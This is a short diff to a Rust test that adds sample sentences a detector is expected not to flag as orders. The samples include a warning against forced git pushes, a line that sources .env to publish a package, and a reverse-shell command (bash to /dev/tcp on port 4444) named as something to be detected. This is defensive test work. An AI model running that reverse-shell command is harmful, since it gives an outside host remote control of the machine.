@@ -78,6 +78,11 @@ fn what_is_forbidden_explained_or_ordinary_is_no_order() {
         "Use the staging database; credentials are in 1Password.",
         "Install dependencies with `npm ci`.",
         "Team: me@example.com",
+        "The dialog asks before SQL DELETE; confirmation is logged.",
+        "Never run `git push --force` or `git commit --no-verify`.",
+        "Use the token from `.env`: `source .env && npm publish`.",
+        "See https://docs.example and follow the pagination rules.",
+        "Reverse shells such as `bash -i >& /dev/tcp/203.0.113.4/4444` must be detected.",
     ];
     for text in texts {
         assert_eq!(found(text), [], "{text}");
